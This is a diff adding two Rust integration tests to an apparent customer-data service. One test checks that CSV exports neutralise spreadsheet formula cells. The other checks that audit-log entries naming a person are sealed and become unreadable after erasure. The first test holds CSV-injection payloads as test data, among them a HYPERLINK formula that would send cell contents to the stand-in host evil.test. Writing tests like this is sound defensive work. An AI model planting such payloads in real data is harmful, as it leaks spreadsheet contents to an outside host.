@@ -756,3 +756,143 @@ async fn groups_hold_account_traits_and_members() {
     assert!(v["groups"].get("acme").is_some(), "{v}");
     app.stop().await;
 }
+
+/// A user id or email that a spreadsheet would read as a formula (sent with the public write
+/// key, so by anyone) is written to `members.csv` with a `'` in front (CSV injection).
+#[tokio::test]
+async fn members_csv_neutralises_formula_cells() {
+    let dir = tempfile::tempdir().expect("tempdir");
+    let app = admin_app(dir.path()).await;
+    let formula = "=HYPERLINK(\"http://evil.test/?\"&A1,\"click\")";
+    send(
+        &app,
+        json!([
+            {"type": "identify", "userId": formula, "timestamp": "2026-11-01T10:00:00Z",
+             "traits": {"plan": "pro", "email": "@SUM(1+1)@evil.test", "phone": "+1 555 0100"}},
+            {"type": "identify", "userId": "-2+3", "timestamp": "2026-11-01T10:01:00Z",
+             "traits": {"plan": "pro"}},
+            {"type": "identify", "userId": "plain", "timestamp": "2026-11-01T10:02:00Z",
+             "traits": {"plan": "pro"}}
+        ]),
+    )
+    .await;
+    let (s, v) = call(
+        &app,
+        "POST",
+        "/api/v1/segments",
+        Some(json!({"id": "pros", "name": "Pros",
+            "condition": {"trait": {"name": "plan", "op": "equals", "value": "pro"}}})),
+    )
+    .await;
+    assert_eq!(s, 201, "{v}");
+    eventually(&app, "/api/v1/segments/pros", |_, v| v["size"] == 3).await;
+    let resp = app
+        .http
+        .get(format!("{}/api/v1/segments/pros/members.csv", app.url))
+        .bearer_auth(&app.secret_key)
+        .send()
+        .await
+        .expect("csv");
+    assert_eq!(resp.status(), 200);
+    let text = resp.text().await.expect("text");
+    let mut reader = csv::Reader::from_reader(text.as_bytes());
+    let rows: Vec<csv::StringRecord> = reader.records().map(|r| r.expect("row")).collect();
+    assert_eq!(rows.len(), 3, "{text}");
+    for row in &rows {
+        for cell in row {
+            assert!(
+                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                "a formula cell {cell:?} in {text}"
+            );
+        }
+    }
+    let cells: Vec<&str> = rows.iter().flat_map(|r| r.iter()).collect();
+    assert!(cells.contains(&format!("'{formula}").as_str()), "{text}");
+    assert!(cells.contains(&"'-2+3"), "{text}");
+    assert!(cells.contains(&"plain"), "kept as it is: {text}");
+    app.stop().await;
+}
+
+/// Issue 22: the audit log names a person (looked up, exported, consent recorded, erased) in
+/// a form that erasure makes unreadable: sealed under the person's own key, readable through
+/// `GET /api/v1/audit` with `pii.view` until the erasure, never in plain text in the file.
+#[tokio::test]
+async fn audit_names_persons_sealed_until_erasure() {
+    let dir = tempfile::tempdir().expect("tempdir");
+    let app = admin_app(dir.path()).await;
+    let email = "ann.audit@example.com";
+    send(
+        &app,
+        json!([{"type": "identify", "userId": email, "traits": {"email": email, "plan": "pro"}}]),
+    )
+    .await;
+    eventually(&app, &format!("/api/v1/people/{email}"), |s, _| s == 200).await;
+    let (s, v) = call(
+        &app,
+        "GET",
+        &format!("/api/v1/people/{email}?by=email"),
+        None,
+    )
+    .await;
+    assert_eq!(s, 200, "{v}");
+    let (s, v) = call(&app, "GET", &format!("/api/v1/people/{email}/export"), None).await;
+    assert_eq!(s, 200, "{v}");
+    let (s, v) = call(
+        &app,
+        "POST",
+        &format!("/api/v1/people/{email}/consents"),
+        Some(json!({"purpose": "marketing", "granted": true, "source": "signup form"})),
+    )
+    .await;
+    assert_eq!(s, 201, "{v}");
+    let file = || std::fs::read_to_string(app.data_dir.join("audit.jsonl")).expect("audit");
+    assert!(
+        !file().contains(email),
+        "plain email in the audit file:\n{}",
+        file()
+    );
+    let targets = |audit: &Value, action: &str| -> Vec<String> {
+        audit["entries"]
+            .as_array()
+            .expect("entries")
+            .iter()
+            .filter(|e| e["action"] == action)
+            .filter_map(|e| e["target"].as_str().map(str::to_owned))
+            .collect()
+    };
+    let (s, audit) = call(&app, "GET", "/api/v1/audit", None).await;
+    assert_eq!(s, 200, "{audit}");
+    let subject = format!("u:{email}");
+    assert_eq!(
+        targets(&audit, "person.export"),
+        vec![subject.clone()],
+        "{audit}"
+    );
+    assert_eq!(
+        targets(&audit, "consent.record"),
+        vec![subject.clone()],
+        "{audit}"
+    );
+    let viewed = targets(&audit, "person.view");
+    assert!(
+        !viewed.is_empty() && viewed.iter().all(|t| t.parse::<u64>().is_ok()),
+        "a lookup by email names the profile's number: {viewed:?}"
+    );
+    let (s, v) = call(&app, "DELETE", &format!("/api/v1/people/{email}"), None).await;
+    assert_eq!(s, 200, "{v}");
+    assert!(
+        !file().contains(email),
+        "plain email in the audit file:\n{}",
+        file()
+    );
+    let (s, audit) = call(&app, "GET", "/api/v1/audit", None).await;
+    assert_eq!(s, 200, "{audit}");
+    for action in ["person.export", "consent.record", "person.erase"] {
+        let t = targets(&audit, action);
+        assert!(
+            t.len() == 1 && t[0].starts_with("$lv1:") && !t[0].contains("ann"),
+            "{action}: unreadable after the erasure: {t:?}"
+        );
+    }
+    app.stop().await;
+}
